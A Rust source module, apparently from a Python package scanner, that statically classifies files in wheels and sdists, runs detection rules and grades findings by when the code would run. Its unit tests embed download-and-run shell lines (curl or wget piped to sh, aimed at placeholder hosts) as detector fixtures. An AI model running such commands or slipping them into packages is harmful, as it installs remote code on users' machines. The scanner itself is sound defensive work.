//! The static inspection engine: parse every Python file of an artifact once, run every rule
//! over that one parse, and grade what the rules see by where the code runs (install time,
//! import time, function body, tests). Nothing is ever executed.
//!
//! Flow: [`inspect`] classifies each entry (Python source, `.pth`, shell/batch/PowerShell
//! script, native binary, other), builds a [`FileCx`] with the file's role and — for Python —
//! the [`facts::Facts`] of one AST walk, then calls every enabled rule of
//! [`registry::RULES`]. Files are processed in parallel with rayon. Each rule reports through
//! an [`Emitter`], which keeps one finding per (rule, file, line), caps findings per rule and
//! file, and attaches evidence (the source line plus any decoded text).

/// How many artifacts callers inspect at once: enough to keep both cores busy on small ones
/// (each inspection is itself parallel over files), few enough that memory is bounded by the
/// largest artifacts rather than by how many there are.
pub const ARTIFACTS_IN_FLIGHT: usize = 4;

pub mod context;
pub mod decode;
pub mod facts;
pub mod fxhash;
pub mod patterns;
pub mod registry;
pub mod rules;

use std::collections::HashSet;
use std::sync::{Arc, Mutex, OnceLock, PoisonError};

use rayon::prelude::*;

use crate::archive::{self, ArchiveContents, ArchiveEntry};
use crate::finding::RuleInfo;
use crate::finding::{Confidence, Finding, Runs, Severity};
use crate::package::ArtifactKind;

use context::{FileRole, RunContext};
use facts::{Facts, LineIndex};

/// Options for one inspection run.
#[derive(Debug, Clone, Default)]
pub struct InspectOptions {
    /// Rule ids to skip.
    pub disabled: Vec<String>,
}

/// Most findings one rule reports for one file.
pub const MAX_PER_RULE_PER_FILE: usize = 20;
/// Python files larger than this are not parsed (only scanned as text), and analysis-incomplete
/// says so: a payload after megabytes of padding is not a clean pass.
pub const MAX_PARSE_SIZE: usize = 32 << 20;
/// Longest evidence line kept.
const EVIDENCE_LEN: usize = 200;

/// What kind of file an entry is, by name and content.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FileKind {
    Python,
    Pth,
    /// Shell, batch or PowerShell script (or a Makefile-like text with commands).
    Script,
    /// ELF, PE or Mach-O executable or library.
    Binary(BinaryFormat),
    /// Any other text file.
    Text,
    /// Any other binary data.
    Data,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum BinaryFormat {
    Elf,
    Pe,
    MachO,
}

impl BinaryFormat {
    pub fn label(self) -> &'static str {
        match self {
            BinaryFormat::Elf => "ELF",
            BinaryFormat::Pe => "PE (Windows)",
            BinaryFormat::MachO => "Mach-O",
        }
    }
}

/// Detect a native executable by its magic number.
pub fn binary_format(data: &[u8]) -> Option<BinaryFormat> {
    if data.starts_with(b"\x7fELF") {
        return Some(BinaryFormat::Elf);
    }
    if data.starts_with(b"MZ") && data.len() >= 0x40 {
        let off = u32::from_le_bytes([data[0x3c], data[0x3d], data[0x3e], data[0x3f]]) as usize;
        if data.get(off..off + 4) == Some(b"PE\0\0") {
            return Some(BinaryFormat::Pe);
        }
    }
    if data.len() >= 8 {
        let magic = [data[0], data[1], data[2], data[3]];
        match magic {
            [0xfe, 0xed, 0xfa, 0xce | 0xcf] | [0xce | 0xcf, 0xfa, 0xed, 0xfe] => {
                return Some(BinaryFormat::MachO)
            }
            [0xca, 0xfe, 0xba, 0xbe] => {
                // Fat Mach-O (a Java class file shares the magic; its next field is a version).
                let n = u32::from_be_bytes([data[4], data[5], data[6], data[7]]);
                if (1..=20).contains(&n) {
                    return Some(BinaryFormat::MachO);
                }
            }
            _ => {}
        }
    }
    None
}

fn file_kind(path: &str, data: &[u8]) -> FileKind {
    let lower = path.to_ascii_lowercase();
    if let Some(b) = binary_format(data) {
        return FileKind::Binary(b);
    }
    if lower.ends_with(".py") || lower.ends_with(".pyw") || lower.ends_with(".pyi") {
        return FileKind::Python;
    }
    if lower.ends_with(".pth") {
        return FileKind::Pth;
    }
    const SCRIPT_EXT: &[&str] = &[
        ".sh", ".bash", ".zsh", ".bat", ".cmd", ".ps1", ".psm1", ".vbs", ".command",
    ];
    if SCRIPT_EXT.iter().any(|e| lower.ends_with(e))
        || data.starts_with(b"#!")
            && !data.starts_with(b"#!/usr/bin/env python")
            && !data.starts_with(b"#!/usr/bin/python")
    {
        return FileKind::Script;
    }
    if data.starts_with(b"#!") {
        return FileKind::Python;
    }
    let head = &data[..data.len().min(4096)];
    if memchr::memchr(0, head).is_some() {
        FileKind::Data
    } else {
        FileKind::Text
    }
}

/// Whether `site` executes this `.pth` line (it starts with `import` + space or tab).
pub fn pth_line_runs(line: &str) -> bool {
    line.starts_with("import ") || line.starts_with("import\t")
}

/// What a rule sees of one artifact as a whole.
#[derive(Debug, Clone)]
pub struct ArtifactCx {
    pub filename: String,
    pub kind: ArtifactKind,
    /// A wheel tagged `none-any` (pure Python): native code has no business there.
    pub pure_wheel: bool,
}

/// What a rule sees of one file.
pub struct FileCx<'a> {
    pub path: &'a str,
    pub kind: FileKind,
    pub role: FileRole,
    /// The file as text (lossy for invalid UTF-8), when it is not binary data.
    pub text: Option<&'a str>,
    pub bytes: &'a [u8],
    /// Facts of the one parse, for Python files.
    pub facts: Option<&'a Facts>,
    /// The file should also get a raw text pass (invalid UTF-8, syntax errors, too large).
    pub raw_pass: bool,
    pub lines: &'a LineIndex,
    pub artifact: &'a ArtifactCx,
    /// Keyword marks of `facts.strings`, filled on first use by [`rules::string_marks`].
    pub string_marks: rules::StringMarks,
}

impl FileCx<'_> {
    /// Run context of the file's top level.
    pub fn top_ctx(&self) -> RunContext {
        self.role.top_level()
    }
    /// Lines of the text with 1-based numbers.
    pub fn text_lines(&self) -> impl Iterator<Item = (u32, &str)> {
        self.text
            .unwrap_or("")
            .lines()
            .enumerate()
            .map(|(i, l)| (i as u32 + 1, l))
    }
    /// Whether the file's code does any network I/O (by calls), or names a network module.
    pub fn has_network(&self) -> bool {
        self.facts.is_some_and(|f| {
            f.calls.iter().any(|c| c.is_network())
                || f.imports_any(&[
                    "socket",
                    "requests",
                    "urllib.request",
                    "urllib2",
                    "http.client",
                    "httpx",
                    "aiohttp",
                    "smtplib",
                    "ftplib",
                    "discord_webhook",
                    "dhooks",
                ])
                .is_some()
        })
    }
}

/// Collects one file's findings: one per (rule, line), at most
/// [`MAX_PER_RULE_PER_FILE`] per rule.
pub struct Emitter<'a> {
    path: &'a str,
    artifact: &'a str,
    text: Option<&'a str>,
    lines: &'a LineIndex,
    /// The file's role and facts: when a rule does not say when its line runs or which token
    /// matched, the call on that line does.
    role: Option<FileRole>,
    facts: Option<&'a Facts>,
    seen: fxhash::FxHashSet<(&'static str, u32)>,
    per_rule: fxhash::FxHashMap<&'static str, usize>,
    pub findings: Vec<Finding>,
}

impl<'a> Emitter<'a> {
    pub fn new(
        path: &'a str,
        artifact: &'a str,
        text: Option<&'a str>,
        lines: &'a LineIndex,
    ) -> Self {
        Self {
            path,
            artifact,
            text,
            lines,
            role: None,
            facts: None,
            seen: Default::default(),
            per_rule: Default::default(),
            findings: Vec::new(),
        }
    }

    /// Give the emitter the file's role and facts, so findings say when they run and which
    /// token matched even where the rule does not.
    pub fn with_file(mut self, role: FileRole, facts: Option<&'a Facts>) -> Self {
        self.role = Some(role);
        self.facts = facts;
        self
    }

    /// The call a finding at `line` is about: a sink (process, network, code) before any
    /// other call on the line.
    fn call_at(&self, line: u32) -> Option<&'a facts::Call> {
        let facts = self.facts?;
        let mut first = None;
        for c in facts.calls.iter().filter(|c| c.line == line) {
            if c.is_code_exec() || c.is_process() || c.is_network() || c.is_decoder() {
                return Some(c);
            }
            first = first.or(Some(c));
        }
        first
    }

    /// When the code at `line` runs: the context of its call, else of a string on it, else
    /// the file's top level.
    fn runs_at(&self, line: u32) -> Option<Runs> {
        let ctx = self
            .call_at(line)
            .map(|c| c.ctx)
            .or_else(|| {
                self.facts?
                    .strings
                    .iter()
                    .find(|s| s.line == line)
                    .map(|s| s.ctx)
            })
            .or_else(|| self.role.map(FileRole::top_level))?;
        Some(ctx.runs())
    }

    /// The sink called on `line` as the source spells it (`os.system`, `exec`), when it is
    /// there. Any other call (a `print` beside a URL) is not what made the rule fire.
    fn token_at(&self, line: u32, line_text: &str) -> Option<String> {
        let c = self
            .call_at(line)
            .filter(|c| c.is_code_exec() || c.is_process() || c.is_network() || c.is_decoder())?;
        let mut name = c.name.as_str();
        loop {
            if !name.is_empty() && line_text.contains(name) {
                return Some(name.to_string());
            }
            match name.split_once('.') {
                Some((_, rest)) => name = rest,
                None => return None,
            }
        }
    }

    /// Report a finding at `line` (0 = whole file). `decoded` is added to the evidence and
    /// kept as the finding's decoded value. Returns the new finding, so a rule can say more
    /// (the matched token, when it runs); `None` when it was merged into an earlier one or a
    /// cap dropped it.
    pub fn emit(
        &mut self,
        rule: &'static RuleInfo,
        severity: Severity,
        confidence: Confidence,
        line: u32,
        message: impl Into<String>,
        decoded: Option<&str>,
    ) -> Option<&mut Finding> {
        let message = crate::redact::redact_text(&message.into());
        if !self.seen.insert((rule.id, line)) {
            // Keep the worst severity for a line reported twice.
            if let Some(f) = self
                .findings
                .iter_mut()
                .find(|f| f.rule == rule.id && f.location.line == (line > 0).then_some(line))
            {
                if severity > f.severity {
                    f.severity = severity;
                    f.confidence = confidence;
                    f.message = message;
                }
            }
            return None;
        }
        let count = self.per_rule.entry(rule.id).or_insert(0);
        if *count >= MAX_PER_RULE_PER_FILE {
            return None;
        }
        *count += 1;
        let mut evidence = String::new();
        let mut matched = None;
        if line > 0 {
            if let Some(text) = self.text {
                let line_text = self.lines.line_text(text, line).trim();
                evidence = patterns::excerpt(line_text, EVIDENCE_LEN);
                matched = self
                    .token_at(line, line_text)
                    .filter(|t| evidence.contains(t.as_str()));
            }
        }
        if let Some(d) = decoded {
            if !evidence.is_empty() {
                evidence.push('\n');
            }
            evidence.push_str("decoded: ");
            evidence.push_str(&patterns::excerpt(d, EVIDENCE_LEN));
        }
        let mut f = Finding::new(rule.id, severity, confidence, message)
            .at(self.path, (line > 0).then_some(line))
            .in_artifact(self.artifact);
        if !evidence.is_empty() {
            f = f.with_evidence(crate::redact::redact_text(&evidence));
        }
        if let Some(m) = matched {
            f = f.with_match(m);
        }
        if let Some(d) = decoded {
            f = f.with_decoded(crate::redact::redact_text(&decoded_excerpt(d)));
        }
        if let Some(runs) = self.runs_at(line) {
            f = f.runs(runs);
        }
        self.findings.push(f);
        self.findings.last_mut()
    }
}

/// Most lines and characters of a decoded payload kept on a finding.
const DECODED_LINES: usize = 8;
const DECODED_LEN: usize = 600;

/// The first lines of a decoded payload, bounded, with a note of what was cut.
fn decoded_excerpt(d: &str) -> String {
    let total = d.lines().count();
    let mut out: String = d.lines().take(DECODED_LINES).collect::<Vec<_>>().join("\n");
    if out.chars().count() > DECODED_LEN {
        out = out.chars().take(DECODED_LEN).collect();
        out.push('…');
    } else if total > DECODED_LINES {
        out.push_str(&format!("\n… ({} more lines)", total - DECODED_LINES));
    }
    out
}

fn pool() -> Option<&'static rayon::ThreadPool> {
    static POOL: OnceLock<Option<rayon::ThreadPool>> = OnceLock::new();
    POOL.get_or_init(|| {
        rayon::ThreadPoolBuilder::new()
            .stack_size(64 << 20)
            .thread_name(|i| format!("pyvet-inspect-{i}"))
            // Reads run here: a worker that blocked for memory could hold what it waits for.
            .start_handler(|_| archive::never_wait_on_this_thread())
            .build()
            .ok()
    })
    .as_ref()
}

fn artifact_cx(filename: &str, kind: ArtifactKind) -> ArtifactCx {
    let lower = filename.to_ascii_lowercase();
    ArtifactCx {
        filename: filename.to_string(),
        kind,
        pure_wheel: kind == ArtifactKind::Wheel && lower.ends_with("-none-any.whl"),
    }
}

fn enabled_rules(opts: &InspectOptions) -> Vec<&'static registry::Rule> {
    registry::RULES
        .iter()
        .filter(|r| !opts.disabled.iter().any(|d| d == r.info.id))
        .collect()
}

fn backend_of(entries: &[ArchiveEntry], kind: ArtifactKind) -> HashSet<String> {
    let entries: Vec<(&str, &[u8])> = entries
        .iter()
        .map(|e| (e.path.as_str(), e.data.as_slice()))
        .collect();
    context::layout(&entries, kind)
}

/// Findings per file (by index into `entries`) of the files at `indices`, in parallel.
fn inspect_entries(
    entries: &[ArchiveEntry],
    mut indices: Vec<usize>,
    artifact: &ArtifactCx,
    backend: &HashSet<String>,
    rules: &[&registry::Rule],
) -> Vec<(usize, Vec<Finding>)> {
    // Biggest files first, so that one large file does not start last and leave a core idle;
    // results go back into archive order before the final sort, so the output is the same
    // whatever the schedule.
    indices.sort_by_key(|&i| std::cmp::Reverse(entries[i].data.len()));
    indices
        .par_iter()
        .with_max_len(1)
        .map(|&i| {
            let e = &entries[i];
            (i, inspect_file(&e.path, &e.data, artifact, backend, rules))
        })
        .filter(|(_, f)| !f.is_empty())
        .collect()
}

/// Per-file findings back in archive order, then in report order.
fn merge(mut per_file: Vec<(usize, Vec<Finding>)>) -> Vec<Finding> {
    per_file.sort_by_key(|(i, _)| *i);
    let mut findings: Vec<Finding> = per_file.into_iter().flat_map(|(_, f)| f).collect();
    crate::finding::sort(&mut findings);
    findings
}

fn in_pool<T: Send>(run: impl FnOnce() -> T + Send) -> T {
    match pool() {
        Some(p) => p.install(run),
        None => run(),
    }
}

/// Inspect one artifact's contents and return code findings (archive-level findings already in
/// `contents.findings` are not repeated). The caller fills in package/version.
pub fn inspect(contents: &ArchiveContents, opts: &InspectOptions) -> Vec<Finding> {
    let artifact = artifact_cx(&contents.filename, contents.kind);
    let enabled = enabled_rules(opts);
    let backend = backend_of(&contents.entries, contents.kind);
    let all = (0..contents.entries.len()).collect();
    merge(in_pool(|| {
        inspect_entries(&contents.entries, all, &artifact, &backend, &enabled)
    }))
}

/// Read an artifact held in memory and inspect it, overlapping the two: each file is
/// inspected as soon as it is inflated (a tarball inflates on one thread, file after file,
/// while the other cores inspect; zip entries inflate in parallel, the largest first, and
/// inspection fills the gaps). Returns what [`archive::read_artifact_with`] returns plus the
/// code findings, exactly as [`inspect`] would report them.
///
/// A file's role can depend on a `pyproject.toml` read later (an in-tree build backend's
/// `backend-path`): files inspected early whose role changes once the whole archive is known
/// are inspected again.
///
/// Memory: the read holds its kept files within the [`archive::MemoryBudget`] (the one in
/// `read`, else the process-wide one). When a file could not be held only because other
/// artifacts held the rest, this attempt is thrown away and the artifact is read again alone,
/// after waiting (on the calling thread, never inside the pool) until no other read is under
/// way: whether a file is reported depends on the artifact, not on what else was in flight.
pub fn read_and_inspect(
    filename: &str,
    bytes: &[u8],
    read: &archive::ReadOptions,
    opts: &InspectOptions,
) -> Result<(archive::ReadOutcome, Vec<Finding>), archive::ArchiveError> {
    if pool().is_none() {
        // Without a pool of its own the attempt would run on this thread, whose frames other
        // waiters could depend on: no gate, the budget reports what does not fit.
        return in_pool(|| read_and_inspect_once(filename, bytes, read, opts));
    }
    let budget = read
        .memory
        .clone()
        .unwrap_or_else(|| Arc::clone(archive::MemoryBudget::global()));
    let mut pass = budget.enter(false);
    loop {
        let exclusive = pass.as_ref().is_some_and(archive::Pass::is_exclusive);
        let (result, contended) = in_pool(move || {
            let result = read_and_inspect_once(filename, bytes, read, opts);
            let contended = result.as_ref().is_ok_and(|(o, _)| o.contended());
            // The attempt is over: its bytes and its place go back before the result leaves
            // the pool, so no waiter depends on when the caller drops it.
            if let Ok((outcome, _)) = &result {
                outcome.release_budget();
            }
            drop(pass);
            (result, contended)
        });
        if !contended || exclusive || !archive::may_wait_here() {
            return result;
        }
        drop(result);
        pass = budget.enter(true);
        if pass.is_none() {
            return in_pool(|| read_and_inspect_once(filename, bytes, read, opts));
        }
    }
}

/// One attempt of [`read_and_inspect`], run in the inspection pool.
fn read_and_inspect_once(
    filename: &str,
    bytes: &[u8],
    read: &archive::ReadOptions,
    opts: &InspectOptions,
) -> Result<(archive::ReadOutcome, Vec<Finding>), archive::ArchiveError> {
    let kind = ArtifactKind::from_filename(filename);
    let artifact = artifact_cx(filename, kind);
    let enabled = enabled_rules(opts);
    let no_backend = HashSet::new();
    // Each observed file with its findings; the `Arc` is kept so that its address stays
    // unique until the results are matched with the entries below.
    type Early = (Arc<Vec<u8>>, Vec<Finding>);
    let early: Mutex<Vec<Early>> = Mutex::new(Vec::new());
    {
        let outcome = rayon::scope(|s| {
            let observe = |e: &ArchiveEntry| {
                let (path, data) = (e.path.clone(), Arc::clone(&e.data));
                let (artifact, enabled, no_backend, early) =
                    (&artifact, &enabled, &no_backend, &early);
                s.spawn(move |_| {
                    let f = inspect_file(&path, &data, artifact, no_backend, enabled);
                    early
                        .lock()
                        .unwrap_or_else(PoisonError::into_inner)
                        .push((data, f));
                });
            };
            archive::read_artifact_observed(filename, bytes, read, &observe)
        })?;
        let entries = &outcome.contents.entries;
        if outcome.contents.kind != kind {
            // The content is not what the name says (a zip named `.tar.gz`): every role
            // follows the content, so everything is inspected again as such.
            let artifact = artifact_cx(filename, outcome.contents.kind);
            let backend = backend_of(entries, outcome.contents.kind);
            let all = (0..entries.len()).collect();
            let per_file = inspect_entries(entries, all, &artifact, &backend, &enabled);
            return Ok((outcome, merge(per_file)));
        }
        let backend = backend_of(entries, kind);
        let index: std::collections::HashMap<*const Vec<u8>, usize> = entries
            .iter()
            .enumerate()
            .map(|(i, e)| (Arc::as_ptr(&e.data), i))
            .collect();
        let mut done = vec![false; entries.len()];
        let mut per_file = Vec::new();
        for (data, f) in early.into_inner().unwrap_or_else(PoisonError::into_inner) {
            // Files a limit dropped after they were observed are not in the result.
            let Some(&i) = index.get(&Arc::as_ptr(&data)) else {
                continue;
            };
            let path = &entries[i].path;
            if context::file_role(path, kind, &backend)
                == context::file_role(path, kind, &no_backend)
            {
                done[i] = true;
                if !f.is_empty() {
                    per_file.push((i, f));
                }
            }
        }
        let rest = (0..entries.len()).filter(|&i| !done[i]).collect();
        per_file.extend(inspect_entries(
            entries, rest, &artifact, &backend, &enabled,
        ));
        Ok((outcome, merge(per_file)))
    }
}

/// Inspect a single file (exposed for benchmarks and tests).
pub fn inspect_file(
    path: &str,
    data: &[u8],
    artifact: &ArtifactCx,
    backend: &HashSet<String>,
    rules: &[&registry::Rule],
) -> Vec<Finding> {
    let kind = file_kind(path, data);
    let role = context::file_role(path, artifact.kind, backend);
    let (text, valid_utf8): (Option<std::borrow::Cow<str>>, bool) = match kind {
        FileKind::Binary(_) | FileKind::Data => (None, false),
        _ => match std::str::from_utf8(data) {
            Ok(s) => (Some(std::borrow::Cow::Borrowed(s)), true),
            Err(_) => (Some(String::from_utf8_lossy(data)), false),
        },
    };
    let text_ref = text.as_deref();
    let lines = LineIndex::new(text_ref.unwrap_or(""));
    let facts = match (kind, text_ref) {
        (FileKind::Python, Some(t)) if t.len() <= MAX_PARSE_SIZE => {
            Some(facts::collect_indexed(t, role, &lines))
        }
        (FileKind::Pth, Some(t)) if t.len() <= MAX_PARSE_SIZE => {
            // Only `import` lines of a .pth file run; keep line numbers by blanking the rest.
            let code: String = t
                .lines()
                .map(|l| if pth_line_runs(l) { l } else { "" })
                .collect::<Vec<_>>()
                .join("\n");
            Some(facts::collect(&code, role))
        }
        _ => None,
    };
    let raw_pass = match kind {
        FileKind::Python => {
            !valid_utf8
                || facts
                    .as_ref()
                    .is_none_or(|f| f.syntax_errors > 0 || f.unparsed)
        }
        FileKind::Text => false,
        _ => false,
    };
    let cx = FileCx {
        path,
        kind,
        role,
        text: text_ref,
        bytes: data,
        facts: facts.as_ref(),
        raw_pass,
        lines: &lines,
        artifact,
        string_marks: Default::default(),
    };
    let mut out =
        Emitter::new(path, &artifact.filename, text_ref, &lines).with_file(role, facts.as_ref());
    for rule in rules {
        (rule.check)(&cx, &mut out);
    }
    out.findings
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::inspect::rules::testutil::artifact;

    fn run(files: &[(&str, &[u8])]) -> Vec<Finding> {
        inspect(
            &artifact("pkg-1.0-py3-none-any.whl", files),
            &InspectOptions::default(),
        )
    }

    #[test]
    fn one_finding_per_rule_and_line_and_a_cap_per_file() {
        let line = "import os; os.system('curl https://x.example.invalid | sh'); os.system('wget -qO- https://x.example.invalid | sh')\n";
        let src = line.repeat(40);
        let f = run(&[("pkg/__init__.py", src.as_bytes())]);
        let sd: Vec<_> = f.iter().filter(|f| f.rule == "shell-downloader").collect();
        assert_eq!(sd.len(), MAX_PER_RULE_PER_FILE);
        let lines: HashSet<_> = sd.iter().map(|f| f.location.line).collect();
        assert_eq!(lines.len(), sd.len());
        assert!(sd
            .iter()
            .all(|f| f.artifact.as_deref() == Some("pkg-1.0-py3-none-any.whl")));
        assert!(sd
            .iter()
            .all(|f| f.package.is_none() && f.version.is_none()));
    }

    #[test]
    fn disabled_rules_are_skipped() {
        let src = b"import os\nos.system('curl https://x.example.invalid | sh')\n";
        let a = artifact("pkg-1.0-py3-none-any.whl", &[("pkg/__init__.py", src)]);
        let opts = InspectOptions {
            disabled: vec!["shell-downloader".into()],
        };
        assert!(inspect(&a, &opts)
            .iter()
            .all(|f| f.rule != "shell-downloader"));
        assert!(inspect(&a, &InspectOptions::default())
            .iter()
            .any(|f| f.rule == "shell-downloader"));
    }

    #[test]
    fn invalid_utf8_gets_a_raw_pass() {
        let mut src =
            b"# \xff\xfe broken\nimport os\nos.system('curl https://x.example.invalid/a | bash')\n"
                .to_vec();
        src.extend_from_slice(b"\xc3\x28\n");
        let f = run(&[("pkg/__init__.py", &src)]);
        assert!(
            f.iter()
                .any(|f| f.rule == "shell-downloader" && f.location.line == Some(3)),
            "{f:?}"
        );
    }

    #[test]
    fn python2_files_still_yield_findings() {
        let src = b"import os\nprint 'hi'\nos.system('curl https://x.example.invalid/a | sh')\n";
        let f = run(&[("pkg/__init__.py", src)]);
        assert!(f.iter().any(|f| f.rule == "shell-downloader"));
    }

    #[test]
    fn hostile_input_does_not_panic() {
        let deep = format!("x = {}1{}\n", "(".repeat(5000), ")".repeat(5000));
        let nested: String = (0..300)
            .map(|i| format!("{}if x:\n", " ".repeat(i)))
            .collect::<String>()
            + &" ".repeat(300)
            + "pass\n";
        let calls = format!("{}0{}", "f(".repeat(3000), ")".repeat(3000));
        let lists = format!("''.join(chr(c) for c in [{}])", "104,".repeat(100_000));
        let bomb = "import base64\nx = 'QUFB' * 10000000\nbase64.b64decode(x)\n";
        let garbage: Vec<u8> = (0..20_000u32)
            .map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8)
            .collect();
        let weird = "é = 'ü' * 3\ns = 'ab'\ns += 'cd'\ns += 1\nexec(s[::-1])\n'\u{10ffff}'[::-1]\nb'\\xff'.decode()\n";
        let files: Vec<(&str, &[u8])> = vec![
            ("pkg/deep.py", deep.as_bytes()),
            ("pkg/nested.py", nested.as_bytes()),
            ("pkg/calls.py", calls.as_bytes()),
            ("pkg/lists.py", lists.as_bytes()),
            ("pkg/bomb.py", bomb.as_bytes()),
            ("pkg/garbage.py", &garbage),
            ("pkg/garbage.pth", &garbage),
            ("pkg/garbage.sh", &garbage),
            ("pkg/weird.py", weird.as_bytes()),
            ("pkg/empty.py", b""),
            ("pkg/mz.exe", b"MZ\xff\xff\xff\xff"),
        ];
        let _ = run(&files);
    }

    #[test]
    fn binary_magic() {
        assert_eq!(binary_format(b"\x7fELF\x02"), Some(BinaryFormat::Elf));
        assert_eq!(
            binary_format(b"\xcf\xfa\xed\xfe\x07\0\0\x01"),
            Some(BinaryFormat::MachO)
        );
        // A Java class file shares the fat Mach-O magic.
        assert_eq!(binary_format(b"\xca\xfe\xba\xbe\0\0\0\x34"), None);
        assert_eq!(binary_format(b"MZ"), None);
    }

    #[test]
    fn context_grading_across_roles() {
        let src = b"import os\nos.system('curl https://x.example.invalid/a | sh')\n";
        let sev = |path: &str| {
            run(&[(path, src)])
                .into_iter()
                .filter(|f| f.rule == "shell-downloader")
                .map(|f| f.severity)
                .max()
        };
        assert_eq!(sev("pkg/__init__.py"), Some(Severity::Critical));
        assert_eq!(sev("pkg/tests/test_a.py"), Some(Severity::Low));
        let in_fn =
            b"import os\ndef f():\n    os.system('curl https://x.example.invalid/a | sh')\n";
        let f = run(&[("pkg/a.py", in_fn)]);
        assert!(f
            .iter()
            .any(|f| f.rule == "shell-downloader" && f.severity == Severity::High));
        let guarded = b"import os\nif __name__ == '__main__':\n    os.system('curl https://x.example.invalid/a | sh')\n";
        let f = run(&[("pkg/a.py", guarded)]);
        assert!(f
            .iter()
            .any(|f| f.rule == "shell-downloader" && f.severity == Severity::High));
    }

    #[test]
    fn functions_run_at_import_take_import_context() {
        let src = b"import os\ndef _go():\n    os.system('curl https://x.example.invalid/a | sh')\ndef _later():\n    os.system('wget -qO- https://x.example.invalid/b | sh')\n_go()\n";
        let f = run(&[("pkg/__init__.py", src)]);
        let sev = |line| {
            f.iter()
                .find(|f| f.rule == "shell-downloader" && f.location.line == Some(line))
                .map(|f| f.severity)
        };
        assert_eq!(sev(3), Some(Severity::Critical));
        assert_eq!(sev(5), Some(Severity::High));
        let thread = b"import os, threading\ndef _go():\n    os.system('curl https://x.example.invalid/a | sh')\nthreading.Thread(target=_go, daemon=True).start()\n";
        let f = run(&[("pkg/__init__.py", thread)]);
        assert!(f
            .iter()
            .any(|f| f.rule == "shell-downloader" && f.severity == Severity::Critical));
    }

    #[test]
    fn credentials_in_urls_are_redacted_in_evidence() {
        let src =
            b"import requests\ndef f():\n    requests.get('https://user:hunter2@192.0.2.8/x')\n";
        let f = run(&[("pkg/a.py", src)]);
        assert!(!f.is_empty());
        for x in &f {
            assert!(
                !x.evidence.as_deref().unwrap_or("").contains("hunter2"),
                "{x:?}"
            );
            assert!(!x.message.contains("hunter2"), "{x:?}");
        }
    }
}
